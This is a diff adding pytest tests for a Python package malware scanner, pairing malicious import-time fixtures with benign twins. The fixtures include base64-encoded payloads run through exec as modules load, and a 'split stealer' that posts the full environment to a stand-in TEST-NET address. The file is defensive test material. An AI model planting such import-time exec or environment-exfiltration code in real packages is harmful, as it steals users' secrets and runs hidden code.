@@ -1,0 +1,99 @@
+"""Round 9's fresh malware variants, spelled unlike the corpus, each beside a benign twin.
+
+Every malicious fixture must make its package high or critical with the threat named for it;
+every twin (how a popular library does the similar thing) must stay below high. Addresses are
+TEST-NET or ``.invalid``; nothing here is ever run.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan
+
+B64_ID = "'aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='"  # import os;os.system('id')
+RUNNER = "import base64\n\n\ndef run(k):\n    exec(base64.b64decode(k))\n    return 1\n"
+
+# ---------------------------------------------------------------- calls into another module
+# A function of another module of the package, called while __init__ loads, however the call
+# is wrapped: its body runs on import.
+CROSS_MODULE_CALLS = {
+    "try/except around the call": (
+        f"from .b import run\ntry:\n    run({B64_ID})\nexcept Exception:\n    pass\n"
+    ),
+    "result bound to a name": f"from .b import run\n_ok = run({B64_ID})\n",
+    "under a platform test": (
+        f"import sys\nfrom .b import run\nif sys.platform != 'x':\n    run({B64_ID})\n"
+    ),
+    "in a class body": f"from .b import run\n\n\nclass C:\n    x = run({B64_ID})\n",
+    "through the module": f"from . import b\nb.run({B64_ID})\n",
+    "under an alias": f"from .b import run as _r\n_r({B64_ID})\n",
+    "in a with block": (
+        f"import contextlib\nfrom .b import run\nwith contextlib.suppress(Exception):\n"
+        f"    run({B64_ID})\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(CROSS_MODULE_CALLS))
+def test_a_payload_function_of_another_module_called_while_loading_is_import_time(name, tmp_path):
+    files = {"pkg/__init__.py": CROSS_MODULE_CALLS[name], "pkg/b.py": RUNNER}
+    assert_high_with(name, scan(files, tmp_path), {"chain.decode_exec"})
+
+
+def test_a_stealer_split_over_modules_and_called_in_try_is_exfiltration(tmp_path):
+    files = {
+        "pkg/__init__.py": "from .c import ping\ntry:\n    ping()\nexcept Exception:\n    pass\n",
+        "pkg/c.py": (
+            "import os\nimport requests\n\n\ndef ping():\n"
+            "    requests.post('http://198.51.100.2/x', json=dict(os.environ))\n"
+        ),
+    }
+    assert_high_with("split stealer", scan(files, tmp_path), {"chain.exfiltration"})
+
+
+# Twins: the same function imported but called only where nothing runs on load.
+NOT_ON_LOAD = {
+    "inside a function": "from .b import run\n\n\ndef helper(k):\n    return run(k)\n",
+    "inside a method": (
+        "from .b import run\n\n\nclass C:\n    def go(self, k):\n        if k:\n"
+        "            return run(k)\n"
+    ),
+    "under the main guard": "from .b import run\nif __name__ == '__main__':\n    run(input())\n",
+    "in a lambda": "from .b import run\nHANDLERS = {'b64': lambda k: run(k)}\n",
+}
+
+
+@pytest.mark.parametrize("name", sorted(NOT_ON_LOAD))
+def test_an_imported_function_called_only_later_stays_a_library_feature(name, tmp_path):
+    files = {"pkg/__init__.py": NOT_ON_LOAD[name], "pkg/b.py": RUNNER}
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, (name, [t.id for t in result.threats])
+
+
+def test_a_version_helper_called_on_import_is_no_threat(tmp_path):
+    """``__version__ = get_version()`` running ``git describe`` is how setuptools_scm-less
+    projects stamp a version: on load, and harmless."""
+    files = {
+        "pkg/__init__.py": "from ._version import get_version\n__version__ = get_version()\n",
+        "pkg/_version.py": (
+            "import subprocess\n\n\ndef get_version():\n    try:\n"
+            "        out = subprocess.run(['git', 'describe', '--tags'], capture_output=True)\n"
+            "        return out.stdout.decode().strip()\n    except OSError:\n"
+            "        return '0.0.0'\n"
+        ),
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+def test_a_telemetry_ping_called_only_by_a_helper_stays_low(tmp_path):
+    files = {
+        "pkg/__init__.py": "from .c import ping\n\n\ndef helper():\n    ping()\n",
+        "pkg/c.py": (
+            "import requests\n\n\ndef ping():\n"
+            "    requests.post('https://telemetry.example.invalid/x', json={'v': 1})\n"
+        ),
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
